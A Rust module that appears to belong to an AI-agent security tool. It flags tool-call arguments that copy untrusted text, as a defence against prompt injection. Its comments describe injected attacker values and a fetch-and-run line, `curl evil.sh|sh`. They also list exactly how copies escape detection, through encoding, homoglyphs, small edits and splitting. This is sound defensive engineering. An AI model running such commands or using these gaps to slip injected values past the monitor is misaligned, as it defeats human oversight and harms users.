//! Value-level provenance: which arguments of a call copy a run of the
//! untrusted text the session has seen.
//!
//! Value mode asks a person only when a call's arguments carry untrusted
//! text, so an agent that read a web page can keep running the commands its
//! user typed. This module decides "carries", cheaply enough to run on every
//! sink call.
//!
//! # What counts as a copy
//!
//! Both sides are compared in a normal form: ASCII letters folded to lower
//! case and every run of ASCII whitespace collapsed to one space (leading
//! and trailing whitespace dropped), so re-indenting or re-casing a command
//! does not hide it. Every string leaf of the arguments is checked, and so
//! is every object key (a header name or an environment variable name is
//! data too) and every number whose decimal text is [`MIN_RUN`] characters
//! or longer (an account or phone number). A hit names the JSON pointer
//! (RFC 6901) of the leaf, or of the member whose key was copied.
//!
//! - A string shorter than [`MIN_RUN`] bytes is a hit only when it is one
//!   whole word (ASCII letters, digits, `_`; 2 to 7 bytes, any case) that
//!   untrusted text has as a word and no trusted text does
//!   ([`UntrustedText::add_trusted`]: the user's messages, the system
//!   prompt). Short values occur everywhere by chance, but the attacker's
//!   `13` (a file id) or `fred` (a user to add) is a word the conversation
//!   first saw in untrusted text; the user's own `13` is in their message.
//!   Short values with other characters (`-rf`, `a.b`, `1.5`) are never hits.
//! - A string of [`MIN_RUN`] up to [`RUN`] bytes is a hit when the whole of
//!   it occurs in one untrusted chunk (`evil.example`, an e-mail address).
//! - A longer string is a hit when it shares a run of at least [`RUN`]
//!   consecutive bytes with one untrusted chunk, anywhere in either.
//!
//! `RUN` = 16 was chosen on AgentDojo's suites (see [`RUN`]): long enough
//! that unrelated texts rarely share a run, short enough to catch an IBAN,
//! an e-mail address or a URL inside a longer argument.
//!
//! # What it cannot see
//!
//! Value mode is a utility feature with an honest gap; `session` mode is the
//! strict one. A copy is *not* found when it is:
//! - paraphrased, translated, summarised or re-ordered by the model;
//! - encoded: base64, URL/percent encoding, HTML entities, JSON or shell
//!   escaping, or altered every few bytes: Unicode homoglyphs, zero-width
//!   characters, non-ASCII case or whitespace (a no-break space is not
//!   collapsed) — one change per 15 bytes is enough;
//! - split across several arguments or calls in pieces under `MIN_RUN`
//!   bytes, or interleaved with other text so that no piece inside a longer
//!   argument reaches `RUN` bytes (`curl evil.sh|sh` is 15);
//! - short: a value under [`MIN_RUN`] bytes that is not one word, or a word
//!   the user's own text also has (the attacker asks for the user's own
//!   file), or a run under `RUN` bytes inside a longer argument;
//! - derived: computed from untrusted data (an amount, a date, a host the
//!   model assembled from parts).
//!
//! The crate's tests (`tests/value_taint/cases.rs`, `blind_spots`) assert
//! several of these, so this list cannot silently go stale.
//!
//! # Cost
//!
//! `add` is one pass over the text (normalize, set Bloom-filter bits for
//! its 8-, 10- and 16-byte windows, index every 9th 8-byte window). `find`
//! normalizes each argument string and tests one 10-byte window per 7
//! bytes of it; only where a 16-byte window may match does it look
//! positions up and compare bytes, so the filters' false positives never
//! become hits. Text crafted to be repetitive can lengthen that exact step;
//! a work budget per call bounds it, and a search that runs out counts the
//! argument as copied (a hit with `run_len` 0), never as clean.
//! `benches/value_taint.rs` measures both.
//!
//! # Memory
//!
//! At most [`MAX_TEXT`] bytes of untrusted text are kept; the oldest chunks
//! are dropped first (a single larger chunk is cut to `MAX_TEXT`). Dropping
//! must never make a value look clean, so it sets [`UntrustedText::overflowed`]
//! for good: [`UntrustedText::find`] reports copies of the text still held
//! only, and the caller must then treat every call as value-tainted (the
//! session mode's answer), while [`UntrustedText::mentions`] answers `true`
//! for anything ("may have been seen").
//!
//! The index costs 8 to 12 bytes per byte of text on top of the text (its
//! normal form, the filters, one map entry per 9 bytes): up to about
//! 12 MiB for a session at the cap. Only the chunks (text, labels, source) and the
//! overflow flag are persisted; the index is rebuilt when a session is
//! loaded, and equality compares what is persisted.

mod index;
mod normalize;
mod tokens;

pub use tokens::MAX_TRUSTED_WORDS;

use crate::TaintLabel;
use index::{Exhausted, Index, Work, normalize_arg};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::sync::Arc;

/// Shortest (normalized) argument string that can be value-tainted; a
/// string from here up to [`RUN`] bytes must occur whole.
pub const MIN_RUN: usize = 8;

/// Shortest common run that taints a longer argument.
///
/// Measured on AgentDojo 0.1.35's four suites (the tool outputs in their
/// environments as untrusted text, string constants of the tasks as
/// arguments). Of the 38 attacker constants of its injection tasks (IBANs,
/// e-mail addresses, URLs, messages), 34 are at least `MIN_RUN` bytes and
/// found whenever an argument is the value itself; inside a longer argument
/// 28 are found at 16 (30 at 12, 23 at 20). A user task's argument hits a
/// *different* suite's environment in 3 of 228 cases at 16 (1.3%; 3.1% at
/// 12, 0.4% at 20), and those are shared real values (a company's e-mail
/// domain), not chance. 16 also keeps the index small (one entry per 9
/// bytes of text) and a clean argument's scan short.
pub const RUN: usize = 16;

/// Untrusted text kept per session, in bytes (the oldest chunks go first).
pub const MAX_TEXT: usize = 1 << 20;

/// One piece of untrusted content the session has seen.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Chunk {
    text: String,
    labels: BTreeSet<TaintLabel>,
    source: String,
}

/// The untrusted text a session has seen, searchable for copied runs.
///
/// Persisted as its chunks and the overflow flag; the index is rebuilt on
/// load. Equality compares what is persisted.
#[derive(Clone, Default, Serialize, Deserialize)]
#[serde(from = "Stored")]
pub struct UntrustedText {
    chunks: Vec<Chunk>,
    /// Set for good once a chunk was dropped (or cut) to stay under
    /// [`MAX_TEXT`].
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    overflowed: bool,
    #[serde(skip)]
    index: Arc<Index>,
    /// Raw bytes held, for the cap.
    #[serde(skip)]
    bytes: usize,
    /// The short words of the chunks (rebuilt with the index).
    #[serde(skip)]
    words: Arc<tokens::Words>,
    /// Short words trusted text used ([`UntrustedText::add_trusted`]).
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    trusted: BTreeSet<String>,
}

/// The persisted form.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Stored {
    #[serde(default)]
    chunks: Vec<Chunk>,
    #[serde(default)]
    overflowed: bool,
    #[serde(default)]
    trusted: BTreeSet<String>,
}

impl From<Stored> for UntrustedText {
    fn from(stored: Stored) -> Self {
        let mut text = UntrustedText {
            chunks: stored.chunks,
            overflowed: stored.overflowed,
            trusted: stored.trusted,
            ..UntrustedText::default()
        };
        // A stored state over the cap (hand-edited, or an older limit) is
        // trimmed the same way `add` would have.
        text.bytes = text.chunks.iter().map(|c| c.text.len()).sum();
        text.enforce_cap();
        text.rebuild();
        text
    }
}

impl PartialEq for UntrustedText {
    fn eq(&self, other: &Self) -> bool {
        self.chunks == other.chunks
            && self.overflowed == other.overflowed
            && self.trusted == other.trusted
    }
}

impl Eq for UntrustedText {}

impl std::fmt::Debug for UntrustedText {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let sources: Vec<&str> = self.chunks.iter().map(|c| c.source.as_str()).collect();
        f.debug_struct("UntrustedText")
            .field("sources", &sources)
            .field("bytes", &self.bytes)
            .field("overflowed", &self.overflowed)
            .finish()
    }
}

/// A copied run: which argument, which labels, from which call.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ValueHit {
    /// JSON pointer of the argument string (`/command`); for a copied
    /// object key, the pointer of its member.
    pub field: String,
    pub labels: BTreeSet<TaintLabel>,
    /// The tool call id whose output held the run.
    pub source: String,
    /// Length in normalized bytes of a common run found (maximal where it
    /// was found, at least [`RUN`] or the whole short string; not
    /// necessarily the longest the chunk holds); 0 when the search gave up
    /// on pathologically repetitive text and counted the field as copied.
    pub run_len: usize,
}

impl UntrustedText {
    /// Remembers `text` (with its labels and source call id). Costs a pass
    /// over the text; past [`MAX_TEXT`] the oldest chunks are dropped and
    /// the index rebuilt.
    pub fn add(&mut self, text: &str, labels: &BTreeSet<TaintLabel>, source: &str) {
        // Nothing to copy from (Unicode spaces do count: they are kept).
        if text.bytes().all(|b| b.is_ascii_whitespace()) {
            return;
        }
        let text = if text.len() > MAX_TEXT {
            self.overflowed = true;
            &text[..text.floor_char_boundary(MAX_TEXT)]
        } else {
            text
        };
        self.chunks.push(Chunk {
            text: text.to_string(),
            labels: labels.clone(),
            source: source.to_string(),
        });
        self.bytes += text.len();
        if self.enforce_cap() {
            self.rebuild();
        } else {
            Arc::make_mut(&mut self.index).push_chunk(text);
            Arc::make_mut(&mut self.words).push_chunk(self.chunks.len() - 1, text);
        }
    }

    /// Remembers the short words of trusted `text` (a user's message, the
    /// system prompt): a short value it has is the user's, not a copy.
    pub fn add_trusted(&mut self, text: &str) {
        tokens::each_word(text, |word| {
            if self.trusted.len() < MAX_TRUSTED_WORDS {
                self.trusted
                    .insert(String::from_utf8_lossy(word).into_owned());
            }
        });
    }

    /// Whether `text` is, exactly, one of the untrusted chunks held (a
    /// child's message from a tainted parent is untrusted text, not the
    /// user's).
    pub fn holds(&self, text: &str) -> bool {
        self.chunks.iter().any(|c| c.text == text)
    }

    /// Drops the oldest chunks until the text fits; true if any went.
    fn enforce_cap(&mut self) -> bool {
        let mut drop = 0;
        while self.bytes > MAX_TEXT && drop + 1 < self.chunks.len() {
            self.bytes -= self.chunks[drop].text.len();
            drop += 1;
        }
        if drop > 0 {
            self.chunks.drain(..drop);
            self.overflowed = true;
        }
        drop > 0
    }

    fn rebuild(&mut self) {
        // Separators and the normal form's shrinking keep it within this.
        let mut index = Index::with_capacity(self.bytes + self.chunks.len());
        let mut words = tokens::Words::default();
        for (i, chunk) in self.chunks.iter().enumerate() {
            index.push_chunk(&chunk.text);
            words.push_chunk(i, &chunk.text);
        }
        self.index = Arc::new(index);
        self.words = Arc::new(words);
    }

    /// True when no untrusted text was ever added.
    pub fn is_empty(&self) -> bool {
        self.chunks.is_empty() && !self.overflowed
    }

    /// True once untrusted text had to be dropped to respect [`MAX_TEXT`]:
    /// a copy of the dropped text can no longer be found, so the caller
    /// must treat every call as value-tainted.
    pub fn overflowed(&self) -> bool {
        self.overflowed
    }

    /// Bytes of untrusted text held.
    pub fn len_bytes(&self) -> usize {
        self.bytes
    }

    /// Every argument (string leaf, object key, long number) of `args` that
    /// copies untrusted text: one hit per argument and chunk holding a copy,
    /// in argument order, then chunk order (oldest first).
    pub fn find(&self, args: &serde_json::Value) -> Vec<ValueHit> {
        let mut search = Search {
            text: self,
            work: Work::new(self.chunks.len()),
            path: Vec::new(),
            buf: Vec::new(),
            found: Vec::new(),
            hits: Vec::new(),
        };
        if !self.chunks.is_empty() {
            search.walk(args);
        }
        search.hits
    }

    /// Whether `needle` (a host name, say) occurs in untrusted text, in the
    /// same normal form (case and whitespace do not matter). A plain
    /// substring test: `evil.example` is mentioned by `api.evil.example`
    /// and by `notevil.example`, which errs on the careful side, but
    /// `api.evil.example` is not mentioned by `evil.example` alone (ask for
    /// the registrable domain too), nor by a percent-encoded or IDN form.
    /// Always true once [`UntrustedText::overflowed`]; false for an empty
    /// needle.
    pub fn mentions(&self, needle: &str) -> bool {
        if self.overflowed {
            return true;
        }
        let needle = normalize::normalize(needle);
        !needle.is_empty() && self.index.contains(&needle)
    }
}

/// One `find` call's walk over the arguments.
struct Search<'a> {
    text: &'a UntrustedText,
    work: Work,
    /// JSON pointer segments (unescaped) of the current value.
    path: Vec<String>,
    buf: Vec<u8>,
    found: Vec<(usize, usize)>,
    hits: Vec<ValueHit>,
}

impl Search<'_> {
    fn walk(&mut self, value: &serde_json::Value) {
        match value {
            serde_json::Value::String(s) => self.check(s),
            serde_json::Value::Number(n) => self.check(&n.to_string()),
            serde_json::Value::Array(items) => {
                for (i, item) in items.iter().enumerate() {
                    self.path.push(i.to_string());
                    self.walk(item);
                    self.path.pop();
                }
            }
            serde_json::Value::Object(map) => {
                for (key, item) in map {
                    self.path.push(key.clone());
                    // A short key is the tool's field name, not data.
                    if key.len() >= MIN_RUN {
                        self.check(key);
                    }
                    self.walk(item);
                    self.path.pop();
                }
            }
            serde_json::Value::Bool(_) | serde_json::Value::Null => {}
        }
    }

    /// Searches one argument string and records its hits.
    fn check(&mut self, s: &str) {
        if s.len() < MIN_RUN {
            self.check_word(s);
            return;
        }
        normalize_arg(s, &mut self.buf);
        self.work.reset();
        self.found.clear();
        let chunks = &self.text.chunks;
        let outcome = self
            .text
            .index
            .search(&self.buf, &mut self.work, &mut self.found);
        if outcome == Err(Exhausted) {
            // Could not rule a copy out: every chunk not already named
            // counts, so a crafted text buys a prompt, not a pass.
            for c in 0..chunks.len() {
                if !self.work.is_done(c) {
                    self.found.push((c, 0));
                }
            }
        }
        if self.found.is_empty() {
            return;
        }
        self.found.sort_unstable();
        let field = pointer(&self.path);
        for &(c, run_len) in &self.found {
            let Some(chunk) = chunks.get(c) else { continue };
            // A member's key and value copying the same chunk: one hit.
            if let Some(prev) = self.hits.last_mut()
                && prev.field == field
                && prev.source == chunk.source
                && prev.labels == chunk.labels
            {
                prev.run_len = prev.run_len.max(run_len);
                continue;
            }
            self.hits.push(ValueHit {
                field: field.clone(),
                labels: chunk.labels.clone(),
                source: chunk.source.clone(),
                run_len,
            });
        }
    }
}

impl Search<'_> {
    /// A short value: a hit when it is a word untrusted text has and
    /// trusted text does not.
    fn check_word(&mut self, s: &str) {
        let Some(word) = tokens::as_word(s) else {
            return;
        };
        let Some(chunk) = self
            .text
            .words
            .chunk_of(&word)
            .and_then(|c| self.text.chunks.get(c))
        else {
            return;
        };
        // A number the user wrote does not vouch for the same number in a
        // call: numbers recur by chance (the user's "June 13" is not the
        // file id 13 a page asked to delete).
        let numeric = word.iter().all(u8::is_ascii_digit);
        if !numeric
            && self
                .text
                .trusted
                .contains(String::from_utf8_lossy(&word).as_ref())
        {
            return;
        }
        self.hits.push(ValueHit {
            field: pointer(&self.path),
            labels: chunk.labels.clone(),
            source: chunk.source.clone(),
            run_len: word.len(),
        });
    }
}

/// The RFC 6901 JSON pointer of `segments` (`~` and `/` escaped).
fn pointer(segments: &[String]) -> String {
    let mut out = String::new();
    for segment in segments {
        out.push('/');
        out.push_str(&segment.replace('~', "~0").replace('/', "~1"));
    }
    out
}
